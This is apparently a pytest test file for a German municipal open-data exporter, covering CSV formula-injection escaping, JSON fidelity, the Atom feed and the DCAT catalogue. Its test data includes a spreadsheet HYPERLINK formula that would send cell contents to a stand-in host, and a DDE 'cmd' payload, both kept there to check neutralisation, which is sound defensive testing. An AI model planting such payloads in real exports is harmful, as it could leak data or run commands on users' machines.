"""Open data: CSV cells never start a spreadsheet formula and survive German spreadsheets,
JSON keeps every text exactly, the feed and the catalogue take every date from the cases."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import xml.etree.ElementTree as ET

import pytest
import rdflib

from conftest import VALID_CASE
from praxisatlas.cases import CaseFile
from praxisatlas.exports import (
    RECORD_FIELDS, csv_cell, data_date, data_files, german_size, published, to_csv, to_json,
)
from praxisatlas.model import Case
from praxisatlas.source import read_case_text
from praxisatlas.views import Atlas

BASE = read_case_text("fall.md", VALID_CASE.read_bytes())[0].data
FORMULA_TITLE = '=HYPERLINK("https://boese.example/?"&A1;"Klick")'
SITE = "https://atlas.test/"
SETTINGS = {"site_url": SITE, "operator_name": "Stadt Testhausen"}
ATOM = "{http://www.w3.org/2005/Atom}"
CC_BY = rdflib.URIRef("https://creativecommons.org/licenses/by/4.0/")
# Plain namespaces: rdflib's predefined ones warn whenever pytest looks at them.
DCAT = rdflib.Namespace("http://www.w3.org/ns/dcat#")
DCTERMS = rdflib.Namespace("http://purl.org/dc/terms/")
FOAF = rdflib.Namespace("http://xmlns.com/foaf/0.1/")
TYPE = rdflib.RDF.type


def case_file(slug: str = "fall", body: str = "Text", **changes) -> CaseFile:
    return CaseFile(f"{slug}.md", slug, Case.model_validate({**BASE, **changes}), body, 40, {})


def atlas(**changes) -> Atlas:
    return Atlas([case_file(**changes)])


def many(count: int) -> Atlas:
    """Cases with distinct slugs; reviewed dates repeat so that ties must be broken by slug."""
    return Atlas([
        case_file(f"fall-{n:02d}", title=f"Faire Woche Nummer {n}", reviewed=dt.date(2025, 1, 1 + n % 5))
        for n in range(count)
    ])


@pytest.mark.parametrize(
    "value,cell",
    [
        ("=1+1", "'=1+1"),
        ("+49 Punkte", "'+49 Punkte"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\rText", "'\rText"),
        ("  =1+1", "'  =1+1"),
        ("\n@SUM(A1)", "'\n@SUM(A1)"),
        (["=1+1", "b"], "'=1+1; b"),
        (["- Liste", "b"], "'- Liste; b"),
    ],
)
def test_cells_that_would_start_a_formula_get_a_leading_quote(value, cell):
    assert csv_cell(value) == cell


@pytest.mark.parametrize(
    "value,cell",
    [("Faire Woche", "Faire Woche"), ("a=b", "a=b"), ("E-Mail", "E-Mail"), (2018, "2018"), (None, ""), ([4, 12], "4; 12"), ("", ""), ([], "")],
)
def test_other_cells_are_left_as_they_are(value, cell):
    assert csv_cell(value) == cell


def read_csv(text: str) -> list[dict[str, str]]:
    """Read as a spreadsheet with German settings would: BOM-aware UTF-8, semicolons."""
    return list(csv.DictReader(io.StringIO(text.encode("utf-8").decode("utf-8-sig")), delimiter=";"))


def test_csv_is_for_german_spreadsheets_with_bom_semicolons_and_every_value_quoted():
    text = to_csv(atlas(title=FORMULA_TITLE, city="Testhausen;=1+1"), SITE)
    assert text.startswith("\ufeffslug;url;title;")
    header, row = text.removeprefix("\ufeff").split("\r\n")[:2]
    assert header.split(";") == list(RECORD_FIELDS)
    assert row.startswith('"fall";"https://atlas.test/beispiele/fall/";')
    # Quoted, so a spreadsheet that splits cells at ';' cannot make '=1+1' a cell of its own.
    assert '"Testhausen;=1+1"' in row
    [record] = read_csv(text)
    assert record["title"] == "'" + FORMULA_TITLE
    assert record["city"] == "Testhausen;=1+1"


def test_csv_round_trips_list_separators_quotes_and_line_breaks_inside_cells():
    body = 'Erste Zeile; mit "Zitat"\n\n- Punkt; noch einer\n'
    text = to_csv(atlas(title='Woche; "fair" und gut', countries=["GH", "NO"], body=body), SITE)
    [record] = read_csv(text)
    assert list(record) == list(RECORD_FIELDS)
    assert record["title"] == 'Woche; "fair" und gut'
    assert record["countries"].split("; ") == ["GH", "NO"]
    assert record["country_names"].split("; ") == ["Ghana", "Norwegen"]
    assert record["body"] == body.strip("\n")


def test_csv_shows_partners_awards_and_sources_as_phrases():
    [record] = read_csv(to_csv(atlas(), SITE))
    assert record["partners"] == (
        "Stadt Testhausen, Büro für Internationales (Kommune); "
        "Afrikanischer Kulturverein Testhausen (Migranten- oder Diasporaorganisation, https://verein.beispiel.de/)"
    )
    assert record["awards"] == "Testpreis für faire Kommunen 2019 (2. Platz, mittlere Kommunen)"
    assert record["sources"] == "Bericht über die Faire Woche (Stadt Testhausen, 2020-05, https://www.beispiel.de/bericht)"
    assert (record["size"], record["size_label"], record["period_to"]) == ("mittel", "Mittlere Kommune", "2020")


def test_csv_phrase_of_a_partner_cannot_start_a_formula():
    partners = [{"name": "=cmd|' /C calc'!A0", "type": "kommune"}]
    [record] = read_csv(to_csv(atlas(partners=partners), SITE))
    assert record["partners"] == "'=cmd|' /C calc'!A0 (Kommune)"


def test_json_keeps_the_exact_text():
    [record] = json.loads(to_json(atlas(title=FORMULA_TITLE), SITE))
    assert record["title"] == FORMULA_TITLE


def test_json_has_every_field_with_labels_beside_slugs_and_the_body_as_markdown():
    body = "\nDer Text mit **Markdown**.\n\n## Zum Nachmachen\n\nSo geht es.\n"
    [record] = json.loads(to_json(atlas(body=body), SITE))
    assert list(record) == list(RECORD_FIELDS)
    assert record["url"] == "https://atlas.test/beispiele/fall/"
    assert (record["state"], record["state_label"]) == ("NW", "Nordrhein-Westfalen")
    assert (record["city_type"], record["city_type_label"]) == ("stadt", "Stadt")
    assert record["areas"] == ["fairer-handel", "bildungsarbeit"]
    assert record["area_labels"] == ["Fairer Handel und Faire Beschaffung", "Entwicklungspolitische Bildungsarbeit in Deutschland"]
    assert record["format_labels"] == ["Tagungen, Veranstaltungsreihen und Feste"]
    assert record["partners"][1] == {
        "name": "Afrikanischer Kulturverein Testhausen", "type": "migrantische-organisation",
        "type_label": "Migranten- oder Diasporaorganisation", "url": "https://verein.beispiel.de/",
    }
    assert record["awards"] == [{"name": "Testpreis für faire Kommunen", "year": 2019, "rank": 2, "category": "mittlere Kommunen"}]
    assert record["sources"][0]["date"] == "2020-05"
    assert record["body"] == body.strip("\n")


def test_json_gives_absent_optional_values_as_null_or_empty_list():
    case = {key: value for key, value in BASE.items() if key not in ("size", "period", "awards", "contact", "countries")}
    [record] = json.loads(to_json(Atlas([CaseFile("fall.md", "fall", Case.model_validate(case), "Text", 40, {})]), SITE))
    assert (record["size"], record["size_label"], record["period_from"], record["contact_url"]) == (None, None, None, None)
    assert (record["awards"], record["countries"], record["country_names"]) == ([], [], [])
    assert (record["support"], record["support_labels"]) == ([], [])


def test_support_programmes_are_exported_as_slugs_and_names():
    [record] = json.loads(to_json(atlas(support=["miglobe", "kleinprojektefonds"]), SITE))
    assert record["support"] == ["miglobe", "kleinprojektefonds"]
    assert record["support_labels"] == ["MiGlobe – Beratung durch migrantische Fachleute", "Kleinprojektefonds kommunale Entwicklungspolitik"]
    row = next(csv.DictReader(io.StringIO(to_csv(atlas(support=["miglobe", "kleinprojektefonds"]), SITE).lstrip("\ufeff")), delimiter=";"))
    assert row["support"] == "miglobe; kleinprojektefonds"


def test_data_date_is_the_newest_review_or_source_date_epoch():
    cases = many(7)
    assert data_date(cases, environ={}) == dt.date(2025, 1, 5)
    assert data_date(cases, environ={"SOURCE_DATE_EPOCH": "1767225600"}) == dt.date(2026, 1, 1)


@pytest.mark.parametrize(
    "size,label", [(0, "0 Bytes"), (1023, "1023 Bytes"), (1024, "1 KB"), (12_500, "12 KB"), (1_468_006, "1,4 MB")]
)
def test_sizes_are_given_in_german_units(size, label):
    assert german_size(size) == label


def test_the_files_are_at_their_urls_and_the_same_every_time():
    first, second = data_files(many(3), SETTINGS), data_files(many(3), SETTINGS)
    assert sorted(first) == [
        "daten/beispiel.schema.json", "daten/beispiele.csv", "daten/beispiele.json", "daten/katalog.jsonld", "feed.xml",
    ]
    assert first == second


def feed_of(cases: Atlas) -> ET.Element:
    return ET.fromstring(data_files(cases, SETTINGS)["feed.xml"])


def test_feed_lists_the_twenty_newest_by_review_date_then_slug():
    cases = many(26)
    feed = feed_of(cases)
    assert feed.tag == f"{ATOM}feed"
    entries = feed.findall(f"{ATOM}entry")
    expected = sorted(cases.cases, key=lambda item: (-item.case.reviewed.toordinal(), item.slug))[:20]
    assert [e.findtext(f"{ATOM}id") for e in entries] == [f"{SITE}beispiele/{item.slug}/" for item in expected]
    assert [e.find(f"{ATOM}link").get("href") for e in entries] == [f"{SITE}beispiele/{item.slug}/" for item in expected]
    assert entries[0].findtext(f"{ATOM}updated") == "2025-01-05T00:00:00+00:00"
    assert entries[-1].findtext(f"{ATOM}updated") == "2025-01-02T00:00:00+00:00"
    assert feed.findtext(f"{ATOM}updated") == "2025-01-05T00:00:00+00:00"
    assert feed.findtext(f"{ATOM}author/{ATOM}name") == "Stadt Testhausen"
    assert feed.find(f"{ATOM}link[@rel='self']").get("href") == f"{SITE}feed.xml"


def catalog_of(cases: Atlas) -> rdflib.Graph:
    return rdflib.Graph().parse(data=data_files(cases, SETTINGS)["daten/katalog.jsonld"], format="json-ld")


# rdflib's own JSON-LD parser uses its deprecated ConjunctiveGraph.
QUIET_RDFLIB = pytest.mark.filterwarnings("ignore:ConjunctiveGraph is deprecated:DeprecationWarning")


@QUIET_RDFLIB
def test_catalog_is_dcat_with_one_distribution_per_data_file(monkeypatch):
    monkeypatch.delenv("SOURCE_DATE_EPOCH", raising=False)
    graph = catalog_of(many(3))
    [catalog] = graph.subjects(TYPE, DCAT.Catalog)
    [dataset] = graph.objects(catalog, DCAT.dataset)
    assert (dataset, TYPE, DCAT.Dataset) in graph
    distributions = set(graph.objects(dataset, DCAT.distribution))
    downloads = {str(graph.value(d, DCAT.downloadURL)) for d in distributions}
    assert downloads == {f"{SITE}daten/beispiele.json", f"{SITE}daten/beispiele.csv", f"{SITE}feed.xml"}
    assert all((d, DCTERMS.license, CC_BY) in graph for d in distributions)
    assert graph.value(dataset, DCTERMS.conformsTo) == rdflib.URIRef(f"{SITE}daten/beispiel.schema.json")
    media = {str(graph.value(d, DCAT.mediaType)).removeprefix("https://www.iana.org/assignments/media-types/") for d in distributions}
    assert media == {"application/json", "text/csv", "application/atom+xml"}
    assert graph.value(dataset, DCTERMS.title) == rdflib.Literal("Praxisbeispiele Migration und Entwicklung", lang="de")
    assert graph.value(graph.value(catalog, DCTERMS.publisher), FOAF.name) == rdflib.Literal("Stadt Testhausen")
    assert graph.value(dataset, DCTERMS.modified).toPython() == dt.date(2025, 1, 3)


@QUIET_RDFLIB
def test_catalog_gives_each_distribution_its_real_size():
    cases = many(3)
    graph = catalog_of(cases)
    sizes = {f"{SITE}{file.path}": file.size for file in published(cases, SETTINGS)}
    for distribution in graph.subjects(TYPE, DCAT.Distribution):
        url = str(graph.value(distribution, DCAT.downloadURL))
        assert graph.value(distribution, DCAT.byteSize).toPython() == sizes[url]
